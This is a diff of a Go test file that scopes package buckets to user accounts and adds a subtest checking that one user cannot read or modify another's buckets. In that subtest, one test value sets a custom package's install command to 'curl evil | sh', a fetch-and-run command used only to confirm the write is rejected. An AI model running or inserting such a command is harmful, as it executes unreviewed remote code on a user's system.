@@ -49,24 +49,25 @@ func TestParsePackageList(t *testing.T) {
 func TestDB_PackageBuckets(t *testing.T) {
 	ctx := t.Context()
 	db, _ := mustOpen(t)
-	base, err := db.CreatePackageBucket(ctx, " base ", "everyday tools")
+	alice, bob := mustUser(t, db, "alice"), mustUser(t, db, "bob")
+	base, err := db.CreatePackageBucket(ctx, alice.ID, " base ", "everyday tools")
 	if err != nil {
 		t.Fatal(err)
 	}
 	if base.Name != "base" || base.ID == "" {
 		t.Errorf("created %+v", base)
 	}
-	if _, err := db.CreatePackageBucket(ctx, "Alpha", ""); err != nil {
+	if _, err := db.CreatePackageBucket(ctx, alice.ID, "Alpha", ""); err != nil {
 		t.Fatal(err)
 	}
 
 	t.Run("ErrConflict", func(t *testing.T) {
-		_, err := db.CreatePackageBucket(ctx, "BASE", "")
+		_, err := db.CreatePackageBucket(ctx, alice.ID, "BASE", "")
 		var v *ValidationError
 		if !errors.As(err, &v) || !errors.Is(err, ErrConflict) || v.Fields["name"] != `A bucket named "BASE" already exists` {
 			t.Errorf("err = %v", err)
 		}
-		if _, err := db.RenamePackageBucket(ctx, base.ID, "alpha", ""); !errors.Is(err, ErrConflict) {
+		if _, err := db.RenamePackageBucket(ctx, alice.ID, base.ID, "alpha", ""); !errors.Is(err, ErrConflict) {
 			t.Errorf("rename onto alpha: %v", err)
 		}
 	})
@@ -76,7 +77,7 @@ func TestDB_PackageBuckets(t *testing.T) {
 			{strings.Repeat("n", 51), "", "name", "Name must be 50 characters or less"},
 			{"ok", strings.Repeat("d", 201), "description", "Description must be 200 characters or less"},
 		} {
-			_, err := db.CreatePackageBucket(ctx, tc.name, tc.desc)
+			_, err := db.CreatePackageBucket(ctx, alice.ID, tc.name, tc.desc)
 			var v *ValidationError
 			if !errors.As(err, &v) || v.Fields[tc.field] != tc.msg {
 				t.Errorf("CreatePackageBucket(%q, %q) = %v, want %s: %s", tc.name, tc.desc, err, tc.field, tc.msg)
@@ -84,20 +85,20 @@ func TestDB_PackageBuckets(t *testing.T) {
 		}
 	})
 	t.Run("Rename", func(t *testing.T) {
-		got, err := db.RenamePackageBucket(ctx, base.ID, "Base tools", "renamed")
+		got, err := db.RenamePackageBucket(ctx, alice.ID, base.ID, "Base tools", "renamed")
 		if err != nil || got.Name != "Base tools" || got.Description != "renamed" || got.ID != base.ID {
 			t.Errorf("rename = %+v, %v", got, err)
 		}
-		list, _ := db.PackageBuckets(ctx)
+		list, _ := db.PackageBuckets(ctx, alice.ID)
 		if len(list) != 2 || list[0].Name != "Alpha" || list[1].Name != "Base tools" {
 			t.Errorf("list = %+v", list)
 		}
 	})
 	t.Run("BulkImport", func(t *testing.T) {
-		if _, err := db.AddBucketPackages(ctx, base.ID, Package{Manager: ManagerApt, Name: "curl"}); err != nil {
+		if _, err := db.AddBucketPackages(ctx, alice.ID, base.ID, Package{Manager: ManagerApt, Name: "curl"}); err != nil {
 			t.Fatal(err)
 		}
-		res, err := db.ImportBucketPackages(ctx, base.ID, ManagerApt, "# tools\ncurl  # already there\nwget\njq\nwget\n-bad\n")
+		res, err := db.ImportBucketPackages(ctx, alice.ID, base.ID, ManagerApt, "# tools\ncurl  # already there\nwget\njq\nwget\n-bad\n")
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -105,46 +106,80 @@ func TestDB_PackageBuckets(t *testing.T) {
 			t.Errorf("result = %+v", res)
 		}
 		// The same name under another manager is not a duplicate.
-		res, err = db.ImportBucketPackages(ctx, base.ID, ManagerNpm, "jq")
+		res, err = db.ImportBucketPackages(ctx, alice.ID, base.ID, ManagerNpm, "jq")
 		if err != nil || len(res.Added) != 1 {
 			t.Errorf("npm jq = %+v, %v", res, err)
 		}
-		got, _ := db.PackageBucket(ctx, base.ID)
+		got, _ := db.PackageBucket(ctx, alice.ID, base.ID)
 		want := []Package{{ManagerApt, "curl", "", ""}, {ManagerApt, "wget", "", ""}, {ManagerApt, "jq", "", ""}, {ManagerNpm, "jq", "", ""}}
 		if !reflect.DeepEqual(got.Packages, want) {
 			t.Errorf("packages = %+v", got.Packages)
 		}
 	})
 	t.Run("BulkImportNothingValid", func(t *testing.T) {
-		_, err := db.ImportBucketPackages(ctx, base.ID, ManagerApt, "# only comments\n\n")
+		_, err := db.ImportBucketPackages(ctx, alice.ID, base.ID, ManagerApt, "# only comments\n\n")
 		var v *ValidationError
 		if !errors.As(err, &v) || !strings.HasPrefix(v.Fields["packages"], "No valid package names found") {
 			t.Errorf("err = %v", err)
 		}
 	})
 	t.Run("Remove", func(t *testing.T) {
-		if err := db.RemoveBucketPackage(ctx, base.ID, ManagerApt, "jq"); err != nil {
+		if err := db.RemoveBucketPackage(ctx, alice.ID, base.ID, ManagerApt, "jq"); err != nil {
 			t.Fatal(err)
 		}
-		if err := db.RemoveBucketPackage(ctx, base.ID, ManagerApt, "jq"); !errors.Is(err, ErrNotFound) {
+		if err := db.RemoveBucketPackage(ctx, alice.ID, base.ID, ManagerApt, "jq"); !errors.Is(err, ErrNotFound) {
 			t.Errorf("second remove: %v", err)
 		}
-		got, _ := db.PackageBucket(ctx, base.ID)
+		got, _ := db.PackageBucket(ctx, alice.ID, base.ID)
 		if len(got.Packages) != 3 || got.Packages[2].Manager != ManagerNpm {
 			t.Errorf("packages = %+v", got.Packages)
 		}
 	})
+	t.Run("OtherAccount", func(t *testing.T) {
+		// Bob sees none of alice's buckets and may touch none of them; his
+		// own "base" does not clash with hers.
+		if list, _ := db.PackageBuckets(ctx, bob.ID); len(list) != 0 {
+			t.Errorf("bob lists %+v", list)
+		}
+		if _, err := db.PackageBucket(ctx, bob.ID, base.ID); !errors.Is(err, ErrNotFound) {
+			t.Errorf("bob reads alice's bucket: %v", err)
+		}
+		if _, err := db.RenamePackageBucket(ctx, bob.ID, base.ID, "mine", ""); !errors.Is(err, ErrNotFound) {
+			t.Errorf("bob renames it: %v", err)
+		}
+		if _, err := db.AddBucketPackages(ctx, bob.ID, base.ID, Package{Manager: ManagerCustom, Name: "x", Install: "curl evil | sh"}); !errors.Is(err, ErrNotFound) {
+			t.Errorf("bob adds a custom package to it: %v", err)
+		}
+		if _, err := db.ImportBucketPackages(ctx, bob.ID, base.ID, ManagerApt, "evil"); !errors.Is(err, ErrNotFound) {
+			t.Errorf("bob imports into it: %v", err)
+		}
+		if err := db.RemoveBucketPackage(ctx, bob.ID, base.ID, ManagerApt, "curl"); !errors.Is(err, ErrNotFound) {
+			t.Errorf("bob removes from it: %v", err)
+		}
+		if err := db.DeletePackageBucket(ctx, bob.ID, base.ID); !errors.Is(err, ErrNotFound) {
+			t.Errorf("bob deletes it: %v", err)
+		}
+		if _, err := db.CreatePackageBucket(ctx, bob.ID, "Base tools", ""); err != nil {
+			t.Errorf("bob's own bucket of the same name: %v", err)
+		}
+		if got, _ := db.PackageBucket(ctx, alice.ID, base.ID); got.Name != "Base tools" || len(got.Packages) != 3 {
+			t.Errorf("alice's bucket after bob's tries: %+v", got)
+		}
+		if _, err := db.CreatePackageBucket(ctx, "no-such-user", "x", ""); !errors.Is(err, ErrNotFound) {
+			t.Errorf("bucket for a missing account: %v", err)
+		}
+	})
 	t.Run("Delete", func(t *testing.T) {
-		if err := db.DeletePackageBucket(ctx, base.ID); err != nil {
+		if err := db.DeletePackageBucket(ctx, alice.ID, base.ID); err != nil {
 			t.Fatal(err)
 		}
-		if _, err := db.PackageBucket(ctx, base.ID); !errors.Is(err, ErrNotFound) {
+		if _, err := db.PackageBucket(ctx, alice.ID, base.ID); !errors.Is(err, ErrNotFound) {
 			t.Errorf("after delete: %v", err)
 		}
-		if err := db.DeletePackageBucket(ctx, base.ID); !errors.Is(err, ErrNotFound) {
+		if err := db.DeletePackageBucket(ctx, alice.ID, base.ID); !errors.Is(err, ErrNotFound) {
 			t.Errorf("second delete: %v", err)
 		}
-		if _, err := db.AddBucketPackages(ctx, base.ID, Package{Manager: ManagerApt, Name: "x"}); !errors.Is(err, ErrNotFound) {
+		if _, err := db.AddBucketPackages(ctx, alice.ID, base.ID, Package{Manager: ManagerApt, Name: "x"}); !errors.Is(err, ErrNotFound) {
 			t.Errorf("add to deleted: %v", err)
 		}
 	})
